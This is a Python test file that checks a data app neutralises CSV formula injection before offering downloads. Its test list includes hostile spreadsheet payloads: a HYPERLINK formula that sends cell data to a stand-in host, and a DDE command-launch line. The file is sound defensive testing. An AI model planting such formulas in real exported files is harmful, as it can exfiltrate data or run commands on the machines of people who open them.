"""CSV downloads: cells a spreadsheet would run as formulas are neutralised (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import re
import tomllib

import numpy as np
import pandas as pd
import pytest

from studio.export import FORMULA_STARTS, csv_bytes, neutralise_cell
from tests.conftest import ROOT

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0", "\uff1d1+1"]


def _read(blob: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(blob.decode("utf-8"))))


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(cell):
    assert neutralise_cell(cell) == "'" + cell
    assert neutralise_cell(cell.encode()) == "'" + cell


@pytest.mark.parametrize("value", [-1.5, -3, 0, 2.5, np.float64(-7.25), np.int64(-4), True, None, float("nan")])
def test_numbers_stay_numbers(value):
    out = neutralise_cell(value)
    assert out is value or (isinstance(value, float) and np.isnan(out))


@pytest.mark.parametrize("cell", ["plain", "a=b", "1-2 (text)", "", " =not first", "x@y.z"])
def test_harmless_text_is_unchanged(cell):
    assert neutralise_cell(cell) == cell


def test_a_frame_is_written_with_every_text_cell_and_name_neutralised():
    frame = pd.DataFrame({
        "=evil name": HOSTILE,
        "value": np.linspace(-4, 3, len(HOSTILE)),
        "mixed": [-1, "+x", 2.5, "ok", None, True, "@y", "-z"],
        "category": pd.Categorical(["=a", "b"] * 4),
    })
    rows = _read(csv_bytes(frame))
    assert rows[0] == ["'=evil name", "value", "mixed", "category"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + c for c in HOSTILE]
    assert [float(r[1]) for r in body] == list(np.linspace(-4, 3, len(HOSTILE)))  # negatives are numbers, no '
    assert body[0][1].startswith("-") and not body[0][1].startswith("'")
    assert [r[2] for r in body] == ["-1", "'+x", "2.5", "ok", "", "True", "'@y", "'-z"]
    assert [r[3] for r in body] == ["'=a", "b"] * 4
    for row in body:  # nothing a spreadsheet would evaluate is left at the start of a cell
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), row
    assert frame.iloc[0, 0] == HOSTILE[0]  # the caller's frame is not changed


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_index_is_neutralised_when_written():
    frame = pd.DataFrame({"v": [1, 2]}, index=["=a", "b"])
    assert [r[0] for r in _read(csv_bytes(frame, index=True))[1:]] == ["'=a", "b"]


def test_every_csv_the_app_offers_goes_through_the_one_helper():
    """No page or UI module writes CSV itself, and the grids' own unescaped CSV export is off."""
    sources = list((ROOT / "pages").glob("*.py")) + list((ROOT / "studio" / "ui").glob("*.py")) + [ROOT / "app.py"]
    offenders = []
    for path in sources:
        text = path.read_text()
        if re.search(r"\.to_csv\(|csv\.writer|text/csv", text) and path.name != "views.py":
            offenders.append(path.name)
        for call in re.findall(r"download_button\((.*?)\)\n", text, re.S):
            if "csv" in call.lower() and "csv_bytes" not in call:
                offenders.append(path.name)
    assert offenders == []
    views = (ROOT / "studio" / "ui" / "views.py").read_text()
    assert "csv_bytes(frame)" in views
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_the_pages_offer_neutralised_csv_downloads(gbt, table):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=300)
    at.session_state["model"] = gbt
    at.session_state["data"] = table.aligned_to(gbt)
    at.session_state["source"] = "test"
    at.run()
    for page, label in (("pages/data.py", "Download the profile as CSV"), ("pages/model.py", "Download these 569 rows as CSV")):
        at.switch_page(page).run()
        assert not at.exception, [e.value for e in at.exception]
        assert label in [b.label for b in at.get("download_button")]
